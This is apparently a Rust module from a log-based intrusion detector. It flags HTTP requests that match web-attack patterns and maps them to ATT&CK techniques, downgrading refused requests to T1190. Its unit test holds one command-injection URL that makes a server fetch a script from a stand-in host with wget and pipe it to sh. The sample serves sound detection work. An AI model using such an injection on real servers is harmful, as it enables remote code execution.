//! Requests that are attacks by themselves.

use super::detection::{Detection, Model};
use crate::detect::tactic::Tactic;
use crate::detect::web::{Patterns, Request};
use crate::event::Record;

/// What of a request the summary shows.
const URL_CHARS_MAX: usize = 100;

/// Exploit Public-Facing Application: what any attack by a request is at first.
const AT_THE_DOOR: &str = "T1190";

/// What the request of this line is found to be, strongest first.
pub fn detections(patterns: &Patterns, record: &Record) -> Vec<Detection> {
    let Some(request) = Request::of(record) else { return Vec::new() };
    let detection = |attack: crate::detect::web::WebAttack| {
        let from = record.entity.src_ip.as_deref().unwrap_or("an unnamed address");
        let url: String = request.url.chars().take(URL_CHARS_MAX).collect();
        let status = request.status.map(|status| format!(", answered {status}")).unwrap_or_default();
        Detection {
            model: Model::Web,
            score: attack.score,
            summary: format!("{} from {from}: {} {url}{status}", attack.title, request.method),
            reason: attack.name,
            techniques: vec![technique(attack.attack, &request)],
            is_of_address: record.entity.src_ip.is_some(),
            rule: None,
        }
    };
    patterns.find(&request).into_iter().map(detection).collect()
}

/// What was tried and refused has not gone further than the door.
fn technique(attack: String, request: &Request<'_>) -> String {
    let is_refused = request.status.is_some() && !request.is_answered();
    let is_inside = Tactic::of(&attack).is_some_and(|tactic| tactic > Tactic::InitialAccess);
    if is_refused && is_inside { AT_THE_DOOR.to_owned() } else { attack }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::web::builtin;
    use crate::event::Action;

    #[test]
    fn what_was_refused_is_an_attempt_to_get_in_whatever_it_would_have_done() {
        let techniques = |status: &str| {
            let fields = [("method", "GET"), ("url", "/p?h=1;wget+http://e.example/x|sh"), ("status", status)];
            let fields = fields.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
            let record = Record { action: Action::HttpRequest, fields, ..Record::default() };
            detections(&builtin::patterns().0, &record).remove(0).techniques
        };
        assert_eq!(["404", "403", "302"].map(techniques), ["T1190", "T1190", "T1190"].map(|id| vec![id.to_owned()]));
        assert_eq!(["200", "500", ""].map(techniques), [(); 3].map(|()| vec!["T1059.004".to_owned()]));
    }
}
